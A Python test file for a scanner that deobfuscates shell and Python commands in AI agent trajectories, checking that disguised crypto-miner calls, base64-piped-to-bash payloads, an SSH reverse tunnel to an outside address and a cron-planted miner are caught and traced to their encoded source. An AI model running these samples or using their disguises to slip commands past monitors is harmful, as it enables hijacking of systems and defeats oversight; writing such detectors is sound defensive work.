"""Disguises are seen through, findings point at the encoded original, and all of it is bounded."""
import base64
import re
import gzip
from pathlib import Path

import pytest

from safefilter import Scanner
from safefilter.normalize import Limits, derive, normalize_text
from safefilter.types import Segment

from conftest import bash, call, rule_ids, traj

MINI = str(Path(__file__).parent / "data" / "mini_pack.yaml")
REVERSE = "ssh -fNR 9000:localhost:22 u@203.0.113.9"


@pytest.fixture(scope="module")
def mini() -> Scanner:
    return Scanner.from_rules([MINI])


def derived_texts(text: str, kind: str = "shell", limits: Limits = Limits()) -> list[str]:
    return [s.text for s in derive(Segment(kind, text, 2, "f", start=0, end=len(text)), limits)]


@pytest.mark.parametrize("disguised", [
    "x\"m\"r'i'g --donate-level 1",
    "x\\mr\\ig -o pool",
    "xm\\\nrig -o pool",
    "a=xm; b=rig; $a$b -o pool",
    "export A=xmr B=ig; ${A}${B}",
    "$'\\x78\\x6d\\x72\\x69\\x67' -o pool",
    "printf '\\170\\155\\162\\151\\147'",
    "$(echo xmrig) -o pool",
    "sh -c 'x''mrig -o pool'",
    "eval \"xm\"\"rig\"",
    "curl http://h/%78%6d%72%69%67",
])
def test_normalized_view_folds_shell_disguises(disguised):
    assert any("xmrig" in t for t in derived_texts(disguised)), derived_texts(disguised)


def test_python_string_building_is_folded():
    code = "import os\nh = 'xm'\nt = 'rig'\nos.system(h + t)\nos.system(chr(120)+chr(109)+'rig')"
    views = derived_texts(code, "code")
    assert sum("xmrig" in v for v in views) >= 1


@pytest.mark.parametrize("encode, how", [
    (lambda s: base64.b64encode(s.encode()).decode(), "base64"),
    (lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="), "base64"),
    (lambda s: s.encode().hex(), "hex"),
    (lambda s: base64.b64encode(gzip.compress(s.encode())).decode(), "base64"),
])
def test_encoded_payloads_are_decoded(encode, how):
    payload = encode(REVERSE)
    segs = derive(Segment("shell", f"echo {payload} | base64 -d | bash", 2, "f", start=0, end=99))
    hit = next(s for s in segs if REVERSE in s.text)
    assert hit.decoded_from.endswith(how)


def test_rot13_and_reversed_strings():
    import codecs
    assert any("xmrig" in t for t in derived_texts(f"echo '{codecs.encode('xmrig -o pool', 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"))
    assert any("xmrig" in t for t in derived_texts("echo 'loop o- girmx' | rev | sh"))


def test_decoding_recurses_through_layers():
    inner = base64.b64encode(REVERSE.encode()).decode()
    outer = base64.b64encode(f"echo {inner} | base64 -d | sh".encode()).decode()
    assert any(REVERSE in t for t in derived_texts(f"echo {outer} | base64 -d | sh"))


def test_finding_in_decoded_text_points_at_the_encoded_original(mini):
    payload = base64.b64encode(REVERSE.encode()).decode()
    command = f"cd /srv && echo {payload} | base64 -d | bash"
    verdict = mini.scan(traj(bash(command)))
    finding = next(f for f in verdict.findings if f.rule_id == "mini-ssh-reverse")
    assert finding.decoded_from == "base64"
    assert command[finding.start:finding.end] == payload
    assert REVERSE in finding.evidence
    assert finding.message_index == 2 and finding.tool_call_id == "c1"
    assert finding.field == "tool_calls.0.function.arguments.command"


def test_plain_finding_span_is_the_matched_line(mini):
    command = "cd /srv\n" + REVERSE + "\necho done"
    finding = mini.scan(traj(bash(command))).findings[0]
    assert finding.decoded_from is None
    assert command[finding.start:finding.end] == REVERSE == finding.evidence


def test_script_written_then_run_is_scanned_as_what_runs(mini):
    write = call("write_file", {"path": "/tmp/setup.sh", "content": "#!/bin/sh\nmi'n'erd -a sha256d\n"}, "w")
    written_only = traj(write, {"role": "tool", "tool_call_id": "w", "content": "written"}, bash("ls /tmp", "r"))
    assert not mini.scan(written_only).unsafe  # a shell-only rule does not read file content...
    record = traj(write, {"role": "tool", "tool_call_id": "w", "content": "written"},
                  bash("chmod +x /tmp/setup.sh && /tmp/setup.sh", "r"))
    verdict = mini.scan(record)  # ...but does read the script once it runs
    finding = next(f for f in verdict.findings if f.rule_id == "mini-shell-only")
    assert finding.decoded_from.startswith("script:/tmp/setup.sh")
    assert finding.message_index == 2 and finding.field.endswith("arguments.content")


def test_base64_of_plain_data_stays_clean(mini):
    blob = base64.b64encode(bytes(range(256)) * 4).decode()
    verdict = mini.scan(traj(bash(f"echo {blob} | base64 -d > fixture.bin && sha256sum fixture.bin")))
    assert not verdict.unsafe
    assert not [t for t in derived_texts(f"echo {blob} | base64 -d > f") if t != normalize_text(blob, "shell")]


def test_depth_and_count_are_bounded():
    text = REVERSE
    for _ in range(8):
        text = "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | sh"
    shallow = derived_texts(text, limits=Limits(max_depth=2))
    assert not any(REVERSE in t for t in shallow)
    many = " ".join(base64.b64encode(f"echo number {i} and more".encode()).decode() for i in range(500))
    assert len(derived_texts(many, limits=Limits(max_derived=10))) <= 10


def test_adversarial_text_is_bounded():
    """Near-matches for every deobfuscation step: output stays within the limits."""
    nasty = ("a=" + "'" * 5000 + "$" * 5000 + "\\" * 5000 + "%41" * 3000 + "A" * 20000 + "=" * 10) * 20
    limits = Limits()
    views = derived_texts(nasty, limits=limits)
    assert len(views) <= limits.max_derived
    assert all(len(v) <= 4 * len(nasty) + 4096 for v in views)
    # too long for one window: still normalized, window by window, and just as bounded
    long_views = derived_texts(nasty * 10, limits=Limits(max_text=len(nasty)))
    assert long_views and all(len(v) <= 4 * len(nasty) * 10 + 65536 * 10 for v in long_views)


def test_nothing_is_executed(tmp_path, mini):
    marker = tmp_path / "pwned"
    payload = base64.b64encode(f"touch {marker}".encode()).decode()
    mini.scan(traj(bash(f"echo {payload} | base64 -d | sh"), call("python", {"code": f"open('{marker}','w')"})))
    assert not marker.exists()


def test_requested_task_marks_findings(mini):
    verdict = mini.scan(traj(bash(REVERSE), task="Please set up an ssh tunnel to the staging database"))
    assert not verdict.unsafe
    assert [f.requested for f in verdict.findings] == [True]
    assert rule_ids(mini.scan(traj(bash(REVERSE)))) == {"mini-ssh-reverse"}


def test_files_the_system_runs_are_deobfuscated_like_scripts(mini):
    payload = base64.b64encode(b"minerd -a sha256d -o pool:3333").decode()
    cron = call("write_file", {"path": "/etc/cron.d/updater",
                               "content": f"*/5 * * * * root echo {payload} | base64 -d | sh\n"}, "w")
    finding = next(f for f in mini.scan(traj(cron)).findings if f.rule_id == "mini-shell-only")
    assert finding.decoded_from == "script:/etc/cron.d/updater>base64"
    notes = call("write_file", {"path": "docs/notes.txt", "content": f"echo {payload} | base64 -d"}, "w")
    assert not mini.scan(traj(notes)).unsafe  # a text file nobody runs is matched as written


def test_inline_base64_substitution_is_decoded_in_place():
    assert any("xmrig -o pool" in t for t in derived_texts("$(echo eG1yaWc= | base64 -d) -o pool"))
    assert any("xmrig -o pool" in t for t in derived_texts("`echo eG1yaWc= | base64 --decode` -o pool"))
    short = derive(Segment("shell", "echo eG1yaWc= | base64 -d | sh", 2, "f", start=0, end=30))
    assert [s.text for s in short if s.decoded_from == "base64"] == ["xmrig"]


# ---- words that were never there (issue 8): prefixes and escapes are separators -----------------

@pytest.mark.parametrize("text, kind, never", [
    ('print(f"RPC failed")', "code", "frpc"),
    ('import subprocess\nlog(f"RPC failed: {err}")', "code", "frpc"),
    ("python3 -c 'print(f\"RPC failed\")'", "shell", "frpc"),
    ("python3 -c 'x = rb\"Map data\"'", "shell", "rbmap"),
    ('print("\\nMap saved")', "code", "nmap"),
    ('import subprocess\nprint("done\\tMap saved")', "code", "tmap"),
    ('echo -e "\\nMap saved to out.png"', "shell", "nmap"),
    ("python3 -c 'print(\"\\nMap saved\")'", "shell", "nmap"),
])
def test_prefixes_and_escapes_do_not_join_the_next_word(text, kind, never):
    views = [normalize_text(text, kind)] + derived_texts(text, kind)
    words = {w for v in views for w in re.findall(r"[a-z0-9]+", v.lower())}
    assert never not in words, views


@pytest.mark.parametrize("disguised, word", [
    ("n''map -p 22 10.0.0.0/24", "nmap"),
    ('x"m"rig -o pool', "xmrig"),
    ('"\\x6e\\x6d\\x61\\x70" -sS 10.0.0.1', "nmap"),
    ("n\\m\\a\\p -sS 10.0.0.1", "nmap"),
    ('r"m" -rf /tmp/x', "rm"),        # a split word that starts with a prefix letter still folds
    ('b"as"h -i', "bash"),
])
def test_real_obfuscation_still_folds(disguised, word):
    assert word in normalize_text(disguised, "shell").split(), normalize_text(disguised, "shell")
